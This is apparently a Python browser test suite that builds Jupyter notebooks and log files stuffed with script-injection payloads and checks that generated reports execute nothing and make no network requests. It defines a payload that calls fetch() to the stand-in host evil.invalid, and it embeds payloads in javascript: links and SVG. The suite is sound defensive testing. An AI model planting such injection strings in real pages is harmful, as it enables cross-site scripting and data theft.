"""Sixty ways to put a script or a request into a page, in every place that a stranger's notebook or log has."""

import base64
import json
import os
import subprocess
import sys
from pathlib import Path
from typing import Any

import nbformat
import pytest
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output

from tests.browser.test_report_hostile import TAKEN, bundle, examine, quiet

pytestmark = pytest.mark.browser
ROOT = Path(__file__).parents[2]
SITE = "http://evil.invalid"
WORDS = {"{TAKEN}": TAKEN, "{SITE}": SITE, "{RUN}": f"{TAKEN};fetch('{SITE}/f')"}
TEXT = Path(__file__).with_name("attacks.json").read_text(encoding="utf-8")
for _name, _value in WORDS.items():
    TEXT = TEXT.replace(_name, _value)
ATTACKS: dict[str, str] = json.loads(TEXT)
BUNDLES = """text/html text/markdown text/latex text/plain image/svg+xml image/png image/jpeg image/gif
image/webp application/javascript application/json application/pdf application/geo+json
text/x-unknown application/vnd.jupyter.widget-view+json application/vnd.plotly.v1+json
application/vnd.bokehjs_exec.v0+json application/vnd.vega.v5+json application/vnd.ocrlab.result+json
application/xhtml+xml video/mp4 audio/wav""".split()


def notebook(attack: str) -> Any:
    """The same attack as prose, source, stream, error, attachment, metadata, and as each type of an output."""
    svg = f"<svg xmlns='http://www.w3.org/2000/svg' xmlns:xlink='http://www.w3.org/1999/xlink'>{attack}</svg>"
    cells = [
        new_markdown_cell(f"# Mine\n\n{attack}\n\n- {attack}\n\n| a |\n|---|\n| {attack} |\n\n> {attack}"),
        new_markdown_cell(
            f"## {attack}\n\n$${attack}$$ ![{attack}]({SITE}/m.png '{attack}') [a](javascript:{attack}) <{SITE}/auto>"
        ),
        new_markdown_cell(
            "![a](attachment:a.svg)", attachments={"a.svg": {"image/svg+xml": [svg], "text/html": attack}}
        ),
        new_code_cell(
            attack, outputs=[new_output("stream", name="stdout", text=f"{attack}\x1b[31m{attack}\x1b]8;;{SITE}\x07")]
        ),
        new_code_cell("x", outputs=[new_output("error", ename=attack, evalue=attack, traceback=[attack])]),
        new_code_cell(
            "x", outputs=[new_output("execute_result", data={"text/html": [attack, "\n", attack]}, execution_count=1)]
        ),
        bundle({"image/svg+xml": svg}, 2),
        bundle({"image/svg+xml": base64.b64encode(svg.encode()).decode(), "text/html": svg}, 3),
        nbformat.from_dict({"cell_type": "raw", "metadata": {"format": "text/html"}, "source": attack}),
    ]
    for number, kind in enumerate(BUNDLES, 4):
        value: Any = {"data": attack, attack: attack} if kind.endswith("json") else attack
        cells.append(bundle({kind: value}, number, **{kind: {"alt": attack, "width": attack, "isolated": True}}))
    about = {"kernelspec": {"name": attack, "display_name": attack, "language": attack}, "title": attack}
    return new_notebook(cells=cells, metadata=about)


def test_there_are_enough() -> None:
    assert len(ATTACKS) >= 60 and len(set(ATTACKS.values())) == len(ATTACKS)


@pytest.mark.parametrize("first", range(0, len(ATTACKS), 8))
def test_a_report_of_several_runs_nothing_and_asks_for_nothing(browser: Any, first: int, tmp_path: Path) -> None:
    several = [notebook(attack) for attack in [*ATTACKS.values()][first : first + 8]]
    several[0].cells = [cell for each in several for cell in each.cells]
    quiet(examine(browser, several[0], tmp_path), "Mine")


def test_the_page_of_a_bug_report_runs_nothing_and_asks_for_nothing(browser: Any, tmp_path: Path) -> None:
    """Each attack as a line of the log, as the message of the error, and in the name of the failing file."""
    lines = "\n".join(" ".join(attack.split()) for attack in ATTACKS.values())
    error = f'Traceback (most recent call last):\n  File "{ATTACKS["script"]}.py", line 1, in <module>\n'
    (tmp_path / "train.log").write_text(f"{lines}\n{error}ValueError: {lines}\n", encoding="utf-8")
    command = [sys.executable, "-m", "ocrlab", "report", "bug", "train.log", "--out", "bug.md"]
    subprocess.run(command, cwd=tmp_path, check=True, timeout=120, env={**os.environ, "PYTHONPATH": str(ROOT)})
    browser.open(tmp_path / "bug.html")
    findings = browser.examine()
    title = browser.driver.title
    assert browser.requests() == [] and findings["scripts"] == [] and findings["handlers"] == []
    assert "taken" not in title.partition("document")[0]
